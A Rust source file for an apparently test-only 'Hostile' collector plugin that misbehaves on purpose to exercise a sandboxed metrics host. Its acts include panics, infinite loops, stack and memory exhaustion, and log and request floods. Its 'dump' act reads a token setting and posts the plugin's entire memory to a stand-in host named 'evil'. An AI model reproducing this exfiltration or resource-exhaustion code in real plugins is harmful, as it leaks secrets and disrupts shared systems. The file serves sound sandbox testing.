//! A collector that breaks every rule, one act at a time.

mod allocator;
mod bench;
mod json;

use std::hint::black_box;

use collector_sdk::http::{Request, fetch_all};
use collector_sdk::{Collector, Fault, Reason, Sheet, emit, log, settings};

pub struct Hostile;

impl Collector for Hostile {
    async fn collect() -> Result<(), Fault> {
        let number: usize = settings::parsed("number")?;
        let act = settings::text("act")?;
        match act.as_str() {
            "well" => emit(values(number)),
            "empty" => Ok(()),
            "gaps" => gaps(),
            "spin" => spin(),
            "emit-then-spin" => {
                emit(values(number))?;
                spin()
            }
            "emit-then-wait" => {
                emit(values(number))?;
                fetch().await
            }
            "emit-then-panic" => {
                emit(values(number))?;
                panic!("as told to, after emitting")
            }
            "panic" => panic!("as told to"),
            "exit" => std::process::exit(3),
            "recurse" => {
                black_box(recurse(0));
                Ok(())
            }
            "recurse-with-frames" => {
                black_box(recurse_with_frames(0));
                Ok(())
            }
            "grow" => grow(),
            "fetch" => fetch().await,
            "realloc" => {
                allocator::spin_at(number);
                fetch().await
            }
            "fetch-many" => fetch_many(number).await,
            "fetch-in-turn" => fetch_in_turn(number).await,
            "post" => post(number).await,
            "undeclared" => one("hostile.never_declared", 1.0, vec![]),
            "nan" => one("hostile.value", f64::NAN, vec![]),
            "infinity" => one("hostile.value", f64::INFINITY, vec![]),
            "long-tag" => one("hostile.value", 1.0, vec![format!("n:{}", "x".repeat(number))]),
            "bad-tag" => one("hostile.value", 1.0, vec!["other:1".into()]),
            "many-tags" => one("hostile.value", 1.0, (0..number).map(|n| format!("n:{n}")).collect()),
            "duplicate" => twice(),
            "points" => emit(values(number)),
            // Says of each point that it was taken, once it was.
            "emit-and-say" => (0..number).try_for_each(|n| {
                let mut sheet = Sheet::default();
                sheet.put_tagged("hostile.value", n as f64, vec![format!("n:{n}")]);
                emit(sheet)?;
                log::warn(format!("taken {n}"));
                Ok(())
            }),
            "flood-points" => {
                flood_points(number);
                Ok(())
            }
            "one-call" => one_call(number),
            "log" => {
                (0..number).for_each(|n| log::warn(format!("line {n} of a flood, and a long one at that")));
                emit(values(1))
            }
            "stderr" => {
                (0..number).for_each(|n| eprintln!("line {n} of a flood on stderr"));
                emit(values(1))
            }
            "sleep" => {
                std::thread::sleep(std::time::Duration::from_secs(number as u64));
                Ok(())
            }
            "dump" => dump().await,
            "wall-clock" => one("hostile.value", collector_sdk::now().as_second() as f64, vec![]),
            "mixed" => mixed(number),
            "fault" => Err(Fault::new(Reason::UpstreamError, "the upstream said no")),
            "emit-then-fault" => {
                emit(values(number))?;
                Err(Fault::new(Reason::UpstreamError, "the upstream said no, in the middle"))
            }
            _ => bench::play(&act, number).await,
        }
    }
}

collector_sdk::export!(Hostile);

fn values(number: usize) -> Sheet {
    let mut sheet = Sheet::default();
    (0..number).for_each(|n| sheet.put_tagged("hostile.value", n as f64, vec![format!("n:{n}")]));
    sheet
}

fn one(series: &str, value: f64, tags: Vec<String>) -> Result<(), Fault> {
    let mut sheet = values(2);
    sheet.put_tagged(series, value, tags);
    emit(sheet)
}

fn twice() -> Result<(), Fault> {
    emit(values(2))?;
    emit(values(1))
}

/// Works on a map whose order depends on the random seed, and emits what it finds.
fn mixed(number: usize) -> Result<(), Fault> {
    let mut seen = std::collections::HashMap::new();
    for n in 0..number {
        *seen.entry(n * 7919 % 1009).or_insert(0usize) += n;
        if n % 1000 == 0 {
            let key = seen.iter().find(|(_, value)| **value > n).map_or(0, |(key, _)| *key);
            let mut sheet = Sheet::default();
            sheet.put_tagged("hostile.value", key as f64, vec![format!("n:{n}")]);
            emit(sheet)?;
        }
    }
    Ok(())
}

/// Hands over point after point, whatever the host says.
fn flood_points(number: usize) {
    use collector_sdk::bindings::collector::host::metrics;
    for n in 0..number {
        let point = metrics::Point { series: "hostile.value".into(), value: 1.0, tags: vec![format!("n:{n}")] };
        let _ = metrics::emit(&[point]);
    }
}

/// Hands over `number` times 3 kB in one call, which the SDK would cut into several.
fn one_call(number: usize) -> Result<(), Fault> {
    use collector_sdk::bindings::collector::host::metrics;
    let point = || metrics::Point { series: "hostile.value".into(), value: 1.0, tags: vec!["n:x".repeat(1 << 10)] };
    let points: Vec<_> = (0..number).map(|_| point()).collect();
    metrics::emit(&points).map_err(|refusal| Fault::new(Reason::Contract, refusal.message))
}

fn gaps() -> Result<(), Fault> {
    let mut sheet = Sheet::default();
    sheet.gap("hostile.value", "nothing to measure");
    sheet.gap("hostile.status", "nobody was asked");
    sheet.count("hostile.bytes", 0);
    emit(sheet)
}

fn spin() -> ! {
    loop {
        black_box(0);
    }
}

/// Ends when the machine's stack is used up.
#[allow(unconditional_recursion, reason = "on purpose")]
fn recurse(depth: u64) -> u64 {
    recurse(black_box(depth) + 1) ^ depth
}

/// Ends when the stack in linear memory is used up.
#[allow(unconditional_recursion, reason = "on purpose")]
fn recurse_with_frames(depth: u64) -> u64 {
    let frame = black_box([depth; 64]);
    black_box(recurse_with_frames(frame[1] + 1)) + frame[0]
}

fn grow() -> Result<(), Fault> {
    let mut kept = Vec::new();
    loop {
        kept.push(black_box(vec![1u8; 1 << 20]));
    }
}

async fn fetch() -> Result<(), Fault> {
    let answer = Request::get("evil", settings::text("path")?).send().await?;
    let mut sheet = Sheet::default();
    sheet.put("hostile.status", f64::from(answer.status));
    sheet.count("hostile.bytes", answer.body.len());
    emit(sheet)
}

async fn fetch_many(number: usize) -> Result<(), Fault> {
    let path = settings::text("path")?;
    let requests = (0..number).map(|n| Request::get("evil", path.as_str()).query("n", n));
    let answers = fetch_all(requests, number).await;
    let well = answers.iter().filter(|a| a.is_ok()).count();
    emit(values(well))?;
    answers.into_iter().collect::<Result<Vec<_>, _>>().map(drop)
}

async fn fetch_in_turn(number: usize) -> Result<(), Fault> {
    let path = settings::text("path")?;
    for n in 0..number {
        Request::get("evil", path.as_str()).query("n", n).fetch().await?;
        let mut sheet = Sheet::default();
        sheet.put_tagged("hostile.value", n as f64, vec![format!("n:{n}")]);
        emit(sheet)?;
    }
    Ok(())
}

async fn post(number: usize) -> Result<(), Fault> {
    let request = Request::post("evil", settings::text("path")?).json(&"x".repeat(number));
    request.fetch().await.map(drop)
}

/// Fetches, so that whatever the host would let slip has passed by, and then posts all of its own memory.
async fn dump() -> Result<(), Fault> {
    let answer = Request::get("evil", settings::text("path")?).send().await;
    let setting = settings::get("token");
    let bytes = core::arch::wasm32::memory_size(0) * 65536;
    let mut sent = 0;
    while sent < bytes {
        // A guest may read all of its memory; that this is not how Rust sees memory is the point of the act.
        let chunk: Vec<u8> = (sent..(sent + 500_000).min(bytes)).map(peek).collect();
        sent += chunk.len();
        Request::post("evil", "/dump").bytes(chunk).fetch().await?;
    }
    black_box((answer.is_ok(), setting));
    emit(values(1))
}

#[allow(unsafe_code, reason = "reads the guest's own memory, byte by byte, on purpose")]
fn peek(address: usize) -> u8 {
    unsafe { std::ptr::read_volatile(address as *const u8) }
}
